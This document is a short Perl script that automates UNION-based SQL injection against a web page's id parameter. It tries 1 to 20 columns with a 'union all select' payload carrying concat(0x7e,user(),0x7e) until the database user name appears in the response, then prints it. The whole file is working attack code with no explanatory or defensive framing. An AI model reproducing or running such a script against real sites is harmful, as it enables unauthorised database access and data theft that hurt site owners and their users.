#!/usr/bin/perl
use LWP::UserAgent;
my $t = shift or die "usage: $0 http://host/page.php?id=1\n";
my $ua = LWP::UserAgent->new(agent => 'Mozilla/5.0');
for my $n (1 .. 20) {
    my $cols = join(',', map { $_ == 1 ? 'concat(0x7e,user(),0x7e)' : $_ } 1 .. $n);
    my $r = $ua->get($t . '+union+all+select+' . $cols . '--+-');
    if ($r->content =~ /~(.+?)~/) { print "[+] $n columns, user: $1\n"; last; }
}
